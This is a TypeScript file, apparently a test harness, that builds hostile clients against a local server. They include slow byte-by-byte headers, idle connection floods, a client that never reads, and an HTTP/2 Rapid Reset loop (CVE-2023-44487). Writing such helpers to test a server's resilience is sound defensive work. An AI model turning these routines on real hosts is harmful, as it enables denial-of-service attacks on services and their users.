// Clients that mean no good, or cannot do better: heads that come byte by byte, connections that only stay, one that asks for much and
// never reads, streams of HTTP/2 that are opened and cancelled as fast as they can be.
import { connect, type Socket } from 'node:net';
import { connect as connectHttp2 } from 'node:http2';

export interface Crowd {
  /** Connections that stand now. */
  readonly open: () => number;
  /** Connections that were closed by the other side so far. */
  readonly closed: () => number;
  readonly stop: () => void;
}

interface Member {
  readonly socket: Socket;
  readonly tick?: () => void;
}

/** Each is replaced when it is closed; opened in steps, so that no backlog overflows. */
function crowd(count: number, open: () => Member): Crowd {
  const members = new Set<Member>();
  let closed = 0;
  const fill = (): void => {
    for (let step = 0; step < 250 && members.size < count; step += 1) {
      const member = open();
      members.add(member);
      member.socket.on('error', () => undefined);
      member.socket.on('close', () => {
        closed += 1;
        members.delete(member);
      });
    }
  };
  const filling = setInterval(fill, 50);
  // a tenth of them at a time
  let turn = 0;
  const ticking = setInterval(() => {
    turn += 1;
    let at = turn;
    for (const { tick } of members) if ((at += 1) % 10 === 0) tick?.();
  }, 100);
  fill();
  return {
    open: () => members.size,
    closed: () => closed,
    stop: () => {
      clearInterval(filling);
      clearInterval(ticking);
      for (const { socket } of members) socket.destroy();
    },
  };
}

/** A byte of a head per second. */
export const slowHeads = (count: number, port: number): Crowd =>
  crowd(count, () => {
    const socket = connect({ port, host: '127.0.0.1', noDelay: true });
    const head = `GET / HTTP/1.1\r\nhost: app-1.example\r\nx-slow: ${'x'.repeat(10_000)}`;
    let at = 0;
    return { socket, tick: () => void (socket.writable && socket.write(head[at++] ?? 'x')) };
  });

/** One request, and then silence. */
export const idlers = (count: number, port: number): Crowd =>
  crowd(count, () => {
    const socket = connect({ port, host: '127.0.0.1' });
    socket.write('GET / HTTP/1.1\r\nhost: app-1.example\r\n\r\n');
    socket.resume();
    return { socket };
  });

/** Asks for `path`, and reads nothing of the answer. */
export const neverReading = (port: number, path: string): Crowd =>
  crowd(1, () => {
    const socket = connect({ port, host: '127.0.0.1' });
    socket.pause();
    socket.write(`GET ${path} HTTP/1.1\r\nhost: app-1.example\r\n\r\n`);
    return { socket };
  });

/** CVE-2023-44487: streams opened and cancelled in the same breath, again on a new session whenever one is ended. Counts the sessions ended. */
export function rapidReset(port: number): { ended: () => number; streams: () => number; stop: () => void } {
  let [ended, streams, stopped] = [0, 0, false];
  let session: ReturnType<typeof connectHttp2> | undefined;
  const attack = (): void => {
    if (stopped) return;
    const current = (session = connectHttp2(`http://127.0.0.1:${port}`));
    const burst = setInterval(() => {
      for (let each = 0; each < 20 && !current.closed && !current.destroyed; each += 1) {
        const stream = current.request({ ':path': '/', ':authority': 'app-1.example' });
        stream.on('error', () => undefined);
        stream.close(8);
        streams += 1;
      }
    }, 20);
    current.on('error', () => undefined);
    current.on('close', () => {
      ended += 1;
      clearInterval(burst);
      setTimeout(attack, 50);
    });
  };
  attack();
  return {
    ended: () => ended,
    streams: () => streams,
    stop: () => {
      stopped = true;
      session?.destroy();
    },
  };
}
